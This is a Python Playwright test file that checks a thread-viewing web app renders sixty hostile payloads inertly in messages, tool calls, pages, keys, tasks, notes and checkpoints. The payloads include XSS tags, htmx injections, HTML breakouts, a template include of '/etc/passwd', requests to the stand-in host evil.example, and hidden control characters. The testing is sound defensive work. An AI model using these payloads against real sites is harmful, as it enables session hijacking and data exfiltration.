"""Sixty hostile payloads in every field that an agent writes: none has an effect."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from memoryhub.kernel.memory.checkpoints import TakeCheckpoint
from memoryhub.kernel.memory.tasks import SetTask, TaskField
from memoryhub.kernel.paging.page_commands import CreatePages
from memoryhub.kernel.text import strict_json
from memoryhub.services.access.api_keys import Agent
from memoryhub.services.threads import slots
from memoryhub.services.turns import turns
from memoryhub.services.turns.turns import NewTurn
from tests.cast import factories
from tests.e2e.conftest import Watched
from tests.inspector.paged import do, new_page
from tests.inspector.remembered import put as put_key
from tests.oracles import memory_acts

T = "/p/acme/threads/talk"
SCREENS = (
    T,
    f"{T}?tab=changes",
    f"{T}/slots",
    f"{T}/events",
    f"{T}?view=events",
    f"{T}?open=2,3,4",
    f"{T}?tab=working-set",
    f"{T}/pages",
    *(f"{T}/pages/slot-{n}" for n in range(6)),
    f"{T}/pages/hostile",
    f"{T}/turns",
    f"{T}/turns/1",
    f"{T}/turns/1/request?content=all",
    f"{T}?tab=working-memory",
    f"{T}/keys",
    f"{T}/keys/hostile",
    f"{T}/keys/hostile/set",
    f"{T}/task",
    f"{T}/notes",
    f"{T}/checkpoints",
    f"{T}/compare?a=before&b=head&values=1",
    f"{T}/compare?a=head&b=before&values=1",
)

_MARKUP = [
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<a href=javascript:alert({n})>click</a>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/{n}/>",
    "<form action=https://evil.example/{n}><button>Sign in</button></form>",
    "<object data=https://evil.example/{n}></object>",
    "<img src=https://evil.example/{n}.png>",
    "<template><img src=x onerror=alert({n})></template>",
    "<!--><script>alert({n})</script>-->",
]
_HTMX = [
    '<div hx-get="/sign-out?{n}" hx-trigger="load">x</div>',
    '<div hx-post="/sign-out?{n}" hx-trigger="load">x</div>',
    '<div data-hx-get="/sign-out?{n}" data-hx-trigger="revealed">x</div>',
    '<div hx-on:htmx:load="alert({n})">x</div>',
    '<div hx-on::load="alert({n})">x</div>',
    "<div hx-vals='js:{{x: alert({n})}}' hx-get=/ hx-trigger=load>x</div>",
    '<section id="head" hx-swap-oob="true">taken over {n}</section>',
    '<output id="live-mark" hx-swap-oob="true" data-n="{n}"></output>',
    '<div id="moment" hx-swap-oob="outerHTML">taken over {n}</div>',
    '<div ws-connect="wss://evil.example/{n}" hx-ext="ws">x</div>',
    '<div hx-ext="ws" ws-connect="/ws/live/acme?{n}">x</div>',
    '<meta name="htmx-config" content=\'{{"allowEval":true,"n":{n}}}\'>',
]
_BREAKOUTS = [
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    "</pre></div></article><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "--></script><script>alert({n})</script>",
    '" autofocus onfocus="alert({n})',
    "' onmouseover='alert({n})",
    "`onerror=alert({n})`",
    "]]><script>alert({n})</script>",
]
_TEMPLATES = [
    "{{{{ request.session.items }}}} {n}",
    "{{% debug %}} {n}",
    "{{% include '/etc/passwd' %}} {n}",
    "${{alert({n})}}",
    "#{{alert({n})}}",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "[click](javascript:alert({n}))",
    "![x](https://evil.example/{n}.png)",
]
_HIDDEN = [
    "\u202eeno si siht\u202c {n}",
    "\u2066isolated\u2069 {n}",
    "\x1b[2J\x1b[31m {n}",
    "a\u200bb\u200ec {n}",
    "\U000e0041\U000e0042 {n}",
    "\ufeff{n}",
    "\rover {n}",
    "\x7f\x08\x08 {n}",
    "\u2028line\u2029para {n}",
]
FORMS = [*_MARKUP, *_HTMX, *_BREAKOUTS, *_TEMPLATES, *_HIDDEN]
PAYLOADS = [form.format(n=n) for n, form in enumerate(FORMS)]
#: Attributes that make htmx act.
ACTIVE = "[hx-get], [hx-post], [hx-ext], [ws-connect], [hx-swap-oob], [data-hx-get]"


def test_hostile_payloads_are_sixty() -> None:
    assert len(set(PAYLOADS)) == 60


def put(agent: Agent, content: Any, **fields: Any) -> None:
    slot = factories.make_slot(content, **fields)
    factories.run(slots.append(agent=agent, thread="talk", slots=[slot]))


def wrap_payload(payload: str) -> list[Any]:
    """Put the payload into every part of a message that pages render apart."""
    function = {"name": payload, "arguments": f'{{"x":{payload!r}}}'}
    return [
        payload,
        {"role": "user", "content": payload, payload[:200]: payload},
        {"role": "assistant", "tool_calls": [{"id": payload, "function": function}]},
        {"role": "tool", "name": payload, "tool_call_id": payload, "content": payload},
        {"role": "user", "content": [{"type": payload, "text": payload}, payload]},
        {"any": {"key": [payload]}},
    ]


@pytest.fixture
def hostile(agent: Agent) -> None:
    """Make six messages, each with all payloads in another part."""
    everything = "\n".join(PAYLOADS)
    for content in wrap_payload(everything):
        put(agent, content)
    page = new_page("hostile", everything, type="artifact")
    do(agent, "talk", CreatePages(pages=(page,)))
    factories.run(turns.begin_turn(agent=agent, thread="talk", new=NewTurn()))
    remember(agent, everything)


def remember(agent: Agent, everything: str) -> None:
    """Put the payloads into each text of working memory, around a checkpoint."""
    text = strict_json.dump_stored(everything)
    value = {payload: [payload, {"at": payload}] for payload in PAYLOADS}
    for number in range(2):
        put_key(agent, "hostile", [number, value], thread="talk")
        fields: dict[TaskField, bytes] = {
            "description": text,
            "data": strict_json.dump_stored({everything[:200]: [number, everything]}),
        }
        do(agent, "talk", SetTask(fields=fields))
        memory_acts.add_notes(agent, everything, thread="talk")
        name = None if number else "before"
        do(agent, "talk", TakeCheckpoint(name=name, description=text))


def test_hostile_text_is_inert(hostile: None, page: Page, watched: Watched) -> None:
    for path in (*SCREENS, *(f"{T}/slots/{n}" for n in range(6)), f"{T}/events/4"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        folded = page.locator("main details")
        folded.evaluate_all("all => { for (const each of all) each.open = true; }")
        expect(page.locator("header.top")).to_be_visible()
        assert page.locator("[hx-disable] :is(script, img, iframe, form)").count() == 0
        assert page.locator("[hx-disable]").locator(ACTIVE).count() == 0
        assert "taken over" not in page.locator("#head, .bar").all_inner_texts()
    assert not any("evil" in url or "sign-out" in url for url in watched.urls)


def test_hidden_characters_are_named_on_pages(hostile: None, page: Page) -> None:
    page.goto(f"{T}/slots/0")
    marks = set(page.locator(".bubble .mark").all_text_contents())
    assert {"RLO", "PDF", "LRI", "PDI", "ESC", "ZWSP", "BOM", "CR", "DEL"} <= marks
    assert {"U+E0041", "U+2028"} <= marks


def test_message_bubble_shows_the_payload_verbatim(hostile: None, page: Page) -> None:
    page.goto(f"{T}/slots/0")
    text = page.locator(".bubble pre").inner_text()
    for payload in (*_MARKUP, *_HTMX, *_BREAKOUTS):
        assert payload.split("{n}")[0].replace("{{", "{").replace("}}", "}") in text
